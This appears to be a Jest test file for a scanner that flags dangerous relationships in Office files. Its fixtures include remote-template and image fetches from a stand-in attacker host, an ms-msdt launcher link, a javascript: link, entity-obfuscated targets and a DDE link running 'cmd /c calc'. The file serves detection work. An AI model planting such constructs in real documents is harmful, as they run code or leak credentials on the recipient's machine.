import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { docx, pptx, xlsx, type ZipEntry } from '../../../../tests/kit/files/files';
import { readPackage } from './read-package';
import { areRelationshipsHarmful } from './relationships';

const OFFICE_NAMESPACE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const STRICT_OFFICE = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
const EXTERNAL = ' TargetMode="External"';
const relationship = (type: string, target: string, mode = EXTERNAL) => `<Relationship Id="r9" Type="${type}" Target="${target}"${mode}/>`;
const rels = (...elements: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${elements.join('')}</Relationships>`;

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'relationships-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));
const check = async (bytes: Buffer) => {
  const path = join(folder, 'file');
  await writeFile(path, bytes);
  return readPackage(path, bytes.length);
};
const entryWith = (name: string, ...elements: string[]): ZipEntry => ({ name, data: rels(...elements) });
const HARMFUL = { kind: null, macros: false, harmful: true, isDamaged: false };

describe('T20 the relationships of an Office file', () => {
  it.each<[string, string, string, string?]>([
    ['a template from elsewhere', `${OFFICE_NAMESPACE}/attachedTemplate`, 'https://evil.example/t.dotm'],
    ['a template on a share', `${OFFICE_NAMESPACE}/attachedTemplate`, 'file:///\\\\evil.example\\t.dotm'],
    ['a frame', `${OFFICE_NAMESPACE}/frame`, 'https://evil.example/'],
    ['a subdocument', `${OFFICE_NAMESPACE}/subDocument`, 'part2.docx'],
    ['a linked OLE object', `${OFFICE_NAMESPACE}/oleObject`, 'mhtml:https://evil.example/x!https://evil.example/x'],
    ['an embedded OLE object', `${OFFICE_NAMESPACE}/oleObject`, 'embeddings/oleObject1.bin', ''],
    ['an OLE object of the strict kind', `${STRICT_OFFICE}/oleObject`, 'embeddings/oleObject1.bin', ''],
    ['an ActiveX control', `${OFFICE_NAMESPACE}/control`, 'activeX/activeX1.xml', ''],
    ['a picture that is fetched', `${OFFICE_NAMESPACE}/image`, 'https://evil.example/pixel.png'],
    ['a picture on a share', `${OFFICE_NAMESPACE}/image`, '\\\\evil.example\\pixel.png'],
    ['a picture of another host', `${OFFICE_NAMESPACE}/image`, 'file://evil.example/pixel.png'],
    ['a chunk from elsewhere', `${OFFICE_NAMESPACE}/aFChunk`, 'http://evil.example/x.html'],
    ['a workbook from elsewhere', `${OFFICE_NAMESPACE}/externalLinkPath`, 'https://evil.example/x.xlsx'],
    ['a link that runs something', `${OFFICE_NAMESPACE}/hyperlink`, 'ms-msdt:/id PCWDiagnostic'],
    ['a link with a script', `${OFFICE_NAMESPACE}/hyperlink`, ' java\tscript:alert(1)'],
    ['a target written in entities', `${OFFICE_NAMESPACE}/image`, '&#104;ttps&#x3a;//evil.example/pixel.png'],
    ['a type written in entities', `${OFFICE_NAMESPACE}/attached&#84;emplate`, 'x.dotm'],
  ])('T20 %s is harmful', async (_, type, target, mode = EXTERNAL) => {
    const relationshipXml = relationship(type, target, mode);
    expect(await check(docx('text', entryWith('word/_rels/settings.xml.rels', relationshipXml)))).toEqual(HARMFUL);
    expect(await check(xlsx('1', entryWith('xl/worksheets/_rels/sheet1.xml.rels', relationshipXml)))).toEqual(HARMFUL);
    expect(await check(pptx(entryWith('ppt/slides/_RELS/slide1.xml.RELS', relationshipXml)))).toEqual(HARMFUL);
  });

  it.each<[string, string, string, string?]>([
    ['a link to a page', `${OFFICE_NAMESPACE}/hyperlink`, 'https://yarrowdyne.example/?a=1&amp;b=2'],
    ['a link to a mail address', `${OFFICE_NAMESPACE}/hyperlink`, 'mailto:lena@yarrowdyne.example'],
    ['a link to a file of the company', `${OFFICE_NAMESPACE}/hyperlink`, 'file:///\\\\server\\plans\\a.pdf'],
    ['a link to a place in the file', `${OFFICE_NAMESPACE}/hyperlink`, '#Sheet1!A1'],
    ['a picture in the file', `${OFFICE_NAMESPACE}/image`, 'media/image1.png', ''],
    ['a picture of the own disk', `${OFFICE_NAMESPACE}/image`, 'file:///C:\\pictures\\a.png'],
    ['a chart’s workbook in the file', `${OFFICE_NAMESPACE}/package`, '../embeddings/Microsoft_Excel_Sheet1.xlsx', ''],
    ['a workbook beside the file', `${OFFICE_NAMESPACE}/externalLinkPath`, 'prices%202026.xlsx'],
    ['a film that plays at a click', `${OFFICE_NAMESPACE}/video`, 'https://www.youtube.com/embed/x'],
  ])('R5.2 %s is not harmful', async (_, type, target, mode = EXTERNAL) => {
    expect(await check(docx('text', entryWith('word/_rels/document.xml.rels', relationship(type, target, mode))))).toMatchObject({
      kind: 'docx',
      harmful: false,
    });
  });

  it('T20 OLE parts, and workbook links that start a program, are harmful even without a relationship', async () => {
    for (const name of ['word/embeddings/oleObject1.bin', 'word/activeX/activeX1.bin', 'word/Embeddings/x.BIN'])
      expect([name, await check(docx('text', { name, data: 'x' }))]).toEqual([name, HARMFUL]);
    const dde = {
      name: 'xl/externalLinks/externalLink1.xml',
      data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    };
    expect(await check(xlsx('1', dde))).toEqual(HARMFUL);
    expect(await check(xlsx('1', { ...dde, data: '<externalLink><externalBook/></externalLink>' }))).toMatchObject({ kind: 'xlsx' });
  });

  it('T20 relationships are read in every encoding and with every prefix, and unclear relationships count as harmful', () => {
    const badRelations = rels(relationship(`${OFFICE_NAMESPACE}/attachedTemplate`, 'https://evil.example/t.dotm'));
    const goodRelations = rels(relationship(`${OFFICE_NAMESPACE}/hyperlink`, 'https://yarrowdyne.example/'));
    const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
    expect([
      areRelationshipsHarmful(Buffer.from(badRelations)),
      areRelationshipsHarmful(utf16(badRelations)),
      areRelationshipsHarmful(utf16(badRelations).swap16()),
    ]).toEqual([true, true, true]);
    expect([
      areRelationshipsHarmful(Buffer.from(goodRelations)),
      areRelationshipsHarmful(utf16(goodRelations)),
      areRelationshipsHarmful(utf16(goodRelations).swap16()),
    ]).toEqual([false, false, false]);
    expect(areRelationshipsHarmful(Buffer.from(badRelations.replaceAll('<Relationship ', '<p:Relationship ')))).toBe(true);
    expect(areRelationshipsHarmful(Buffer.from(badRelations.replaceAll('"', "'")))).toBe(true);
    expect(areRelationshipsHarmful(Buffer.from(`<!DOCTYPE a [<!ENTITY x "y">]>${goodRelations}`))).toBe(true);
    expect(areRelationshipsHarmful(Buffer.from(goodRelations.replace('"/></', '></')))).toBe(true);
  });

  // Quadratic time would take hours for each of these inputs.
  it('T20 relationships are read in linear time', () => {
    const length = 2 * 1024 * 1024;
    const repeatText = (text: string) => Buffer.from(text.repeat(Math.ceil(length / text.length)));
    const relationshipWith = (attributes: Buffer) => Buffer.concat([Buffer.from('<Relationship '), attributes, Buffer.from('/>')]);
    expect(areRelationshipsHarmful(repeatText('<!--'))).toBe(true);
    expect(areRelationshipsHarmful(repeatText('<!---->'))).toBe(false);
    for (const attributes of ['a', ' ', 'a ', 'a:', 'a="b', 'a=\'"', '&a'])
      areRelationshipsHarmful(relationshipWith(repeatText(attributes)));
    for (const text of ['<', '<a', '<a:Relationship ', '<Relationship "']) areRelationshipsHarmful(repeatText(text));
  });
});
